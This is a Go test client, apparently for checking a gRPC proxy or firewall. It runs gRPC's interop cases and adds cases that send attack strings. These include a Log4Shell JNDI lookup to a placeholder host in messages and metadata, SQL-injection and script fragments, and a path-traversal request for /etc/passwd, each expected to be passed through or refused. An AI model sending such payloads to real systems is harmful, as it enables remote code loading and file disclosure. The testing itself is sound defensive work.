package main

import (
	"context"
	"fmt"
	"io"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/interop"
	testgrpc "google.golang.org/grpc/interop/grpc_testing"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
)

const attack = "${jndi:ldap://203.0.113.1/a}"

// Cases of gRPC's own suite (its names). The library ends the process where one fails.
var cases = map[string]func(context.Context, testgrpc.TestServiceClient, ...grpc.CallOption){
	"empty_unary":                 interop.DoEmptyUnaryCall,
	"large_unary":                 interop.DoLargeUnaryCall,
	"client_streaming":            interop.DoClientStreaming,
	"server_streaming":            interop.DoServerStreaming,
	"ping_pong":                   interop.DoPingPong,
	"empty_stream":                interop.DoEmptyStream,
	"timeout_on_sleeping_server":  interop.DoTimeoutOnSleepingServer,
	"cancel_after_begin":          interop.DoCancelAfterBegin,
	"cancel_after_first_response": interop.DoCancelAfterFirstResponse,
	"custom_metadata":             interop.DoCustomMetadata,
	"status_code_and_message":     interop.DoStatusCodeAndMessage,
	"special_status_message":      interop.DoSpecialStatusMessage,
}

func checkGRPC(address, ca, host, name string) error {
	config, err := trust(ca)
	if err != nil {
		return err
	}
	config.ServerName = host
	connection, err := grpc.NewClient("passthrough:///"+address,
		grpc.WithTransportCredentials(credentials.NewTLS(config)), grpc.WithAuthority(host))
	if err != nil {
		return err
	}
	defer connection.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if run, known := cases[name]; known {
		run(ctx, testgrpc.NewTestServiceClient(connection))
		return nil
	}
	switch name {
	case "attack_in_messages":
		return attackInMessages(ctx, testgrpc.NewTestServiceClient(connection))
	case "attack_in_metadata":
		ctx = metadata.AppendToOutgoingContext(ctx, "x-note", attack)
		return refused(ctx, connection, "/grpc.testing.TestService/EmptyCall")
	case "attack_in_path":
		return refused(ctx, connection, "/grpc.testing.TestService/EmptyCall?file=../../../../etc/passwd")
	case "refused":
		return refused(ctx, connection, "/grpc.testing.TestService/EmptyCall")
	case "unimplemented_method":
		interop.DoUnimplementedMethod(ctx, connection)
	case "unimplemented_service":
		interop.DoUnimplementedService(ctx, testgrpc.NewUnimplementedServiceClient(connection))
	default:
		return fmt.Errorf("no case %s", name)
	}
	return nil
}

// A stream whose client waits for the answer to each message before it sends the next: what stands in messages passes.
func attackInMessages(ctx context.Context, client testgrpc.TestServiceClient) error {
	stream, err := client.FullDuplexCall(ctx)
	if err != nil {
		return err
	}
	for size := range int32(20) {
		request := &testgrpc.StreamingOutputCallRequest{
			Payload:            &testgrpc.Payload{Body: []byte(attack + "' OR 1=1 -- <script>alert(1)</script>")},
			ResponseParameters: []*testgrpc.ResponseParameters{{Size: size}},
		}
		if err := stream.Send(request); err != nil {
			return err
		}
		answer, err := stream.Recv()
		if err != nil {
			return err
		}
		if int32(len(answer.GetPayload().GetBody())) != size {
			return fmt.Errorf("answer %v to %d", answer, size)
		}
	}
	if err := stream.CloseSend(); err != nil {
		return err
	}
	if _, err := stream.Recv(); err != io.EOF {
		return fmt.Errorf("the end is %v", err)
	}
	return nil
}

// 403 is, to a gRPC client, this status.
func refused(ctx context.Context, connection *grpc.ClientConn, method string) error {
	err := connection.Invoke(ctx, method, &testgrpc.Empty{}, &testgrpc.Empty{})
	if status.Code(err) != codes.PermissionDenied {
		return fmt.Errorf("%s: %v", method, err)
	}
	return nil
}
